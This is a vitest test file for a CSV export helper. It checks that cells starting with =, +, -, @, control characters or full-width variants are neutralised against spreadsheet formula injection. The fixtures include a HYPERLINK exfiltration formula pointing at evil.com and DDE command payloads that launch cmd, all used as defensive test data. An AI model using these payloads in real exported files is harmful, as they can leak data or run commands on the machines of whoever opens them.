import { describe, expect, test } from "vitest";
import { toCsv, toCsvCell, toCsvLine } from "./to-csv-cell";
import { parseCsv } from "./parse-csv";

describe("toCsvCell neutralises formula injection", () => {
  test.each([
    ["formula with =", "=1+1", "'=1+1"],
    ["HYPERLINK exfiltration", '=HYPERLINK("http://evil.com?"&A1,"x")', `"'=HYPERLINK(""http://evil.com?""&A1,""x"")"`],
    ["DDE command", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["leading plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["leading minus", "-2+3", "'-2+3"],
    ["negative number written as text", "-12", "'-12"],
    ["leading at sign", "@SUM(1,2)", `"'@SUM(1,2)"`],
    ["a handle with @ is text too", "@emma", "'@emma"],
    ["leading tab", "\t=1+1", "'\t=1+1"],
    ["leading carriage return", "\r=1+1", `"'\r=1+1"`],
    ["leading line feed", "\n=1+1", `"'\n=1+1"`],
    ["leading NUL", "\u0000=1", "'\u0000=1"],
    ["spaces before =", "  =1+1", "'  =1+1"],
    ["full-width equals", "＝1+1", "'＝1+1"],
    ["full-width plus", "＋1", "'＋1"],
    ["full-width at", "＠SUM(1)", "'＠SUM(1)"],
    ["formula with a comma is neutralised then quoted", "=SUM(A1,A2)", `"'=SUM(A1,A2)"`],
    ["formula with a quote is neutralised then quoted", '=A1&"x"', `"'=A1&""x"""`],
  ])("%s: %j → %j", (_label, value, expected) => {
    expect(toCsvCell(value)).toBe(expected);
  });

  test.each([
    ["plain text", "Emma Martin", "Emma Martin"],
    ["= later in the text is harmless", "a=b", "a=b"],
    ["minus later in the text", "summer-sale", "summer-sale"],
    ["email", "emma@example.com", "emma@example.com"],
    ["empty string", "", ""],
    ["comma is quoted", "Martin, Emma", `"Martin, Emma"`],
    ["quote is doubled", 'say "hi"', `"say ""hi"""`],
    ["inner line feed is quoted", "a\nb", `"a\nb"`],
    ["inner CRLF is quoted", "a\r\nb", `"a\r\nb"`],
    ["a single quote at the start is left as is", "'quoted", "'quoted"],
    ["unicode", "Zoé 😀", "Zoé 😀"],
  ])("text kept: %s", (_label, value, expected) => {
    expect(toCsvCell(value)).toBe(expected);
  });

  test.each([
    ["negative number", -12.5, "-12.5"],
    ["positive number", 414.95, "414.95"],
    ["zero", 0, "0"],
    ["negative zero", -0, "0"],
    ["integer minor units", 41495, "41495"],
    ["bigint", 9007199254740993n, "9007199254740993"],
    ["negative bigint", -5n, "-5"],
    ["true", true, "true"],
    ["false", false, "false"],
    ["null", null, ""],
    ["undefined", undefined, ""],
    ["date as ISO instant", new Date("2024-03-01T12:00:00Z"), "2024-03-01T12:00:00.000Z"],
  ] as const)("non-text value: %s", (_label, value, expected) => {
    expect(toCsvCell(value)).toBe(expected);
  });

  test.each([
    ["NaN", Number.NaN],
    ["Infinity", Number.POSITIVE_INFINITY],
    ["invalid date", new Date("nope")],
  ])("refuses %s rather than writing garbage", (_label, value) => {
    expect(() => toCsvCell(value)).toThrow(RangeError);
  });
});

describe("toCsvLine and toCsv", () => {
  test("a line mixes numbers and neutralised text", () => {
    expect(toCsvLine(["Emma", "=1+1", -12.5, "-12", null, "a,b"])).toBe(`Emma,'=1+1,-12.5,'-12,,"a,b"`);
  });

  test("an empty line", () => {
    expect(toCsvLine([])).toBe("");
  });

  test("a document ends every line with CRLF", () => {
    expect(toCsv([["a", 1], ["b", 2]])).toBe("a,1\r\nb,2\r\n");
    expect(toCsv([])).toBe("");
  });

  test("what we export reads back through our parser", () => {
    const rows = [["name", "note"], ["Martin, Emma", 'said "hi"\nthen left'], ["=evil()", "-3"]];
    expect(parseCsv(toCsv(rows)).map((record) => record.fields)).toEqual([
      ["name", "note"],
      ["Martin, Emma", 'said "hi"\nthen left'],
      ["'=evil()", "'-3"],
    ]);
  });
});
